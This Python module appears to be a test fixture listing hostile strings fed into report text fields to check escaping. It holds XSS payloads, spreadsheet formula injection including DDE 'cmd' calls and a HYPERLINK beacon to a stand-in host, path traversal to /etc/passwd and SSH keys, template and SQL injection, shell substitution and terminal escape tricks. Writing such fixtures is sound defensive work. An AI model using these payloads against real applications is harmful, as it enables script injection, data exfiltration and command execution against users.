"""Hostile texts that every output must show as text: markup, styles, addresses, formulas, names, templates, terminal and Unicode tricks.

Put a text here when it once broke, or could break, some sink; ``PAYLOADS`` is fed into every text field of every report. Scripts, were
one to run, would set ``window.pwned``; addresses are of the reserved ``.invalid`` domain, so nothing is reached even when a test fails.
"""

from __future__ import annotations

from dataclasses import dataclass

_RUN = "window.pwned=1"
_HOST = "http://pwned.invalid"


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile text and the kind of trick it plays."""

    kind: str
    text: str


_MARKUP = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src='{_HOST}/beacon.png'>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"</desc></svg><img src=x onerror={_RUN}>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data='{_HOST}/x.swf'></object>",
    f"<embed src='{_HOST}/x'>",
    f"<link rel=stylesheet href='{_HOST}/x.css'>",
    f"<meta http-equiv=refresh content='0;url={_HOST}'>",
    f"<base href='{_HOST}/'>",
    f"<form action='{_HOST}'><input name=q autofocus onfocus={_RUN}></form>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<math><mtext><table><mglyph><style><img src onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<a href='javascript:{_RUN}'>here</a>",
    f"<xss style='animation-name:x' onanimationstart={_RUN}>",
    "<plaintext>",
    "<!--",
    f"<style>body{{background:url({_HOST}/css)}}</style>",
)
_ATTRIBUTES = (
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus tabindex=1 '",
    f'"><script>{_RUN}</script>',
    f"`onmouseover={_RUN}`",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"x;background:url({_HOST}/style)",
    "&lt;b&gt; &amp;amp; &#60;script&#62; &quot;",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\u2028<script>{_RUN}</script>\u2029",
    f"<\x00script>{_RUN}</script>",
)
_FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://pwned.invalid/?"&A1,"open")',
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "'=1+1",
    '","=1+1',
    "a\r\nb,c;d\te",
)
_PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\con",
    "%2e%2e%2f%00",
    "CON",
    "~/.ssh/id_ed25519",
    "a\x00.html",
    ".",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{# gone #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s%n%x {0.__class__} %(x)s",
    "$(touch pwned) `touch pwned` ; touch pwned",
    "Robert'); DROP TABLE event;--",
)
_MARKDOWN = (
    "| a | b |\n|---|---|",
    f"[click](javascript:{_RUN})",
    f"![x]({_HOST}/beacon.png)",
    f"<{_HOST}>",
    f"{_HOST}/autolink www.pwned.invalid a@pwned.invalid",
    "```\n# heading\n```",
    "~~struck~~ **bold** _it_ \\| \\",
)
_UNICODE = (
    "\u202egnp.exe\u202c",
    "zero\u200bwidth\ufeffjoin\u2060er",
    "lone \ud800 surrogate",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "back\x08space \x7f \x9b31m",
    "Z" + "\u0335\u0321\u0322\u0316\u0317" * 20 + "algo",
    "\u0391\u03c1\u03b9\u03b8\u03bc\u03cc\u03c2 \u65e5\u672c\u8a9e \u0639\u0631\u0628\u064a \U0001f9ea\ufe0f",
    "\ufffe\uffff",
    "\u00a0\u3000  \u2003",
    "Infinity",
    "NaN",
    "",
)
_SVG = (
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=9>here</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{_RUN}</script></svg>#x\"/></svg>",
    f"<svg><set attributeName=onmouseover to='{_RUN}'></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{_RUN}</script>'></iframe></foreignObject></svg>",
    f'M0 0" onload="{_RUN}" d="M0 0',
    f"</title></svg><svg onload={_RUN}>",
    f"<image href='{_HOST}/x.svg' onerror={_RUN}>",
)
_CSS = (
    f"}} * {{ background: url({_HOST}/star) }}",
    f"red; background-image: url('{_HOST}/semicolon')",
    f"@import '{_HOST}/import.css';",
    f"/* */ }} </style><script>{_RUN}</script><style>",
    f"x:expression({_RUN})",
    "position:fixed;inset:0;z-index:9999",
    f"-moz-binding:url({_HOST}/xbl)",
)
_ADDRESSES = (
    f"jAvAsCrIpT:{_RUN}",
    f"java\tscript:{_RUN}",
    f" \x01javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"vbscript:{_RUN}",
    f"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+#{_RUN}",
    "//pwned.invalid/x",
    "\\\\pwned.invalid\\share",
    f"blob:{_HOST}/x",
    f"view-source:{_HOST}",
    "http://user@pwned.invalid/",
    "decision.json?x#y",
)
_SCRIPT_DATA = (
    f'"}};{_RUN};//',
    f"'-({_RUN})-'",
    f'\\"}};{_RUN};//',
    f"\\u003c/script\\u003e\\u003cscript\\u003e{_RUN}",
    f"<!--<script>{_RUN}",
    f"</SCRIPT\t><script>{_RUN}</script>",
    f"</script/x><script>{_RUN}</script>",
    f"]]>--!><script>{_RUN}</script>",
    "__proto__",
    "constructor",
    f"`${{{_RUN}}}`",
)
_CHARTS = (
    "%{x} %{customdata[0]}<extra>x</extra>",
    f"<a href='javascript:{_RUN}'>axis</a>",
    f"<a href='{_HOST}'>axis</a><br><sup>2</sup><b>bold</b>",
    "<span style='font-size:400px'>large</span>",
    "$\\alpha$ \\href{javascript:x}{y}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "2020-01-01",
    "1e999",
)
_BLOCKS = (
    "# heading",
    "- item",
    "1. item",
    "***",
    "---",
    "> quote",
    "    code",
    f"[x]: {_HOST}/reference",
    f"<details open ontoggle={_RUN}>",
    f"a\n\n<script>{_RUN}</script>\n\nb",
    "$$\\sum$$ :smile: @everyone [^1]",
    "\\\n===",
)
_TERMINAL = (
    f"\x1b]8;;{_HOST}\x07link\x1b]8;;\x07",
    "\x1bc\x1b[3J",
    "\x90q#0\x9c",
    "fine\rPASS",
    "\x1b[6n\x05",
    "\x0e\x0f\x84",
)
_SPREADSHEETS = (
    " =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    'a";=1+1',
    "\uff0b1",
    "\ufe66SUM(1)",
    "''",
    "=1+1;'=1",
)
_NAMES = (
    "NUL.html",
    "aux",
    "-rf",
    "--help",
    "name.",
    "a:stream",
    "report.html/../../x",
    "..%2f..%2fx",
    "\\\\?\\C:\\x",
    "n" * 300,
    "RE\u0301sume\u0301",
    "\u0131ndex.html",
)
_DIRECTION = (
    "\u2066left\u2069 \u2067right\u2069 \u2068first\u2069",
    "\u200eltr\u200frtl\u061carabic",
    "abc\u202e\u2067fed\u2069\u202c",
    "\u2069\u2069\u202c\u202c unopened",
    "\U000e0041\U000e0042 tags",
    "\u00ad\u2028\u2029\u180e",
)
_HUGE = ("A" * 100_000, "<b>" * 20_000, "\u65e5" * 50_000, "word " * 20_000, "&" * 50_000)

PAYLOADS: tuple[Payload, ...] = tuple(
    Payload(kind, text)
    for kind, texts in (
        ("markup", _MARKUP),
        ("attribute", _ATTRIBUTES),
        ("formula", _FORMULAS),
        ("path", _PATHS),
        ("template", _TEMPLATES),
        ("markdown", _MARKDOWN),
        ("unicode", _UNICODE),
        ("svg", _SVG),
        ("css", _CSS),
        ("address", _ADDRESSES),
        ("script-data", _SCRIPT_DATA),
        ("chart", _CHARTS),
        ("block", _BLOCKS),
        ("terminal", _TERMINAL),
        ("spreadsheet", _SPREADSHEETS),
        ("name", _NAMES),
        ("direction", _DIRECTION),
        ("huge", _HUGE),
    )
    for text in texts
)
